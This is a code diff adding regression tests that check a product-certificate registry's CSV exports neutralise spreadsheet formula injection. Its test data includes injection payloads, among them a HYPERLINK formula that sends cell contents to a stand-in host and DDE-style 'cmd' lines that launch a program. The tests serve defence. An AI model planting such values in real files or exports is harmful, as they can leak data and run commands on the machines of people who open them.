@@ -4,9 +4,12 @@ path, and a batch order retried after a lost answer."""
 
 from __future__ import annotations
 
+import csv
+import io
 import sqlite3
 import types
 from collections.abc import Iterator
+from functools import partial
 from pathlib import Path
 from typing import Annotated, Any, Union, get_args, get_origin
 
@@ -20,10 +23,94 @@ from pydantic import BaseModel
 from sqlalchemy import text
 from starlette.routing import BaseRoute
 
+from stamps.spreadsheet import FORMULA_STARTS, csv_text, text_cell
 from tests.conftest import NOW, Demo
 from verifier.app import create_app
 from verifier.cli import main
 from verifier.service import Service
+
+# --- finding 5: no formula cells in CSV ---------------------------------------------------
+
+# Text a producer's or a product's name, a decision or a reason may carry (printable, as every
+# free-text field takes), each a formula in a spreadsheet program.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+84 912 345 678",
+    "  =1+1",
+    '\uff1dHYPERLINK("http://evil.example")',
+]
+
+
+def _looks_like_a_formula(cell: str) -> bool:
+    return cell.lstrip()[:1] in FORMULA_STARTS or cell[:1] in FORMULA_STARTS
+
+
+def _csv_cells(answer: Any) -> list[list[str]]:
+    assert answer.status_code == 200, answer.text
+    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
+
+
+def test_registry_csv_exports_carry_no_formula_regression(demo: Demo) -> None:
+    """Producers', products' names and revocation texts went into the public CSV exports as
+    they were: `=HYPERLINK(...)`, `@SUM(...)`, `-2+3+cmd|...` opened as live formulas in a
+    spreadsheet program. Every such cell now opens as text: a single quote in front."""
+    authority = demo.token("authority_VN-01")
+    post = partial(demo.client.post, headers=authority)
+    producer = post("/api/v1/producers", json={
+        "legal_name": FORMULAS[0], "kind": "cooperative", "registration_number": "0109999999",
+        "address": FORMULAS[4], "province_code": "01",
+    })  # fmt: skip
+    assert producer.status_code == 201, producer.text
+    certificates = []
+    for number, name in enumerate(FORMULAS):
+        product = post(f"/api/v1/producers/{producer.json()['id']}/products", json={
+            "name": name, "product_group": "food", "pack_description": "Hộp 200 g",
+        })  # fmt: skip
+        assert product.status_code == 201, product.text
+        certificate = post("/api/v1/certificates", json={
+            "product_id": product.json()["id"], "stars": 3, "decision_number": f"-{number}/QĐ",
+            "decision_date": "2026-10-01",
+        })  # fmt: skip
+        assert certificate.status_code == 201, certificate.text
+        certificates.append(certificate.json()["id"])
+    revoked = post(f"/api/v1/certificates/{certificates[1]}/revoke", json={
+        "decision": "@QĐ-1", "decision_date": "2026-11-01", "reason": FORMULAS[2],
+    })  # fmt: skip
+    assert revoked.status_code == 200, revoked.text
+
+    found = _csv_cells(demo.client.get("/api/v1/registry/certificates.csv"))
+    ended = _csv_cells(demo.client.get("/api/v1/registry/ended.csv"))
+    figures = _csv_cells(demo.client.get("/api/v1/registry/provinces.csv"))
+    cells = [cell for table in (found, ended, figures) for row in table for cell in row]
+    assert [cell for cell in cells if _looks_like_a_formula(cell)] == []
+    for formula in FORMULAS:  # each still readable, as text
+        assert "'" + formula in cells
+    assert "'@QĐ-1" in [row[ended[0].index("revocation_decision")] for row in ended]
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("-2+3+cmd|'!A0", "'-2+3+cmd|'!A0"),
+        ("+1", "'+1"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("\tMật ong", "'\tMật ong"),
+        ("   =1+1", "'   =1+1"), ("\u3000\uff20SUM(A1)", "'\u3000\uff20SUM(A1)"),
+        ("\uff0b1", "'\uff0b1"), ("\uff0d1", "'\uff0d1"), ("\uff1d1", "'\uff1d1"),
+        ("Mật ong hoa nhãn", "Mật ong hoa nhãn"), ("a=b", "a=b"), ("", ""),
+        ("https://ocop.vn/s/123", "https://ocop.vn/s/123"), ("01-000000042", "01-000000042"),
+    ],
+)  # fmt: skip
+def test_a_text_cell_never_starts_a_formula(text: str, cell: str) -> None:
+    assert text_cell(text) == cell
+
+
+def test_csv_text_quotes_text_so_no_separator_starts_a_cell() -> None:
+    """A spreadsheet whose list separator is `;` would split `Mật ong;=1+1` into a cell that
+    is a formula: text cells are quoted, numbers bare, None empty."""
+    text = csv_text(["name", "stars", "note"], [{"name": "Mật ong;=1+1", "stars": 4}])
+    assert text == '"name","stars","note"\n"Mật ong;=1+1",4,""\n'
+
 
 # --- finding 9a: integers out of range on every route -------------------------------------
 
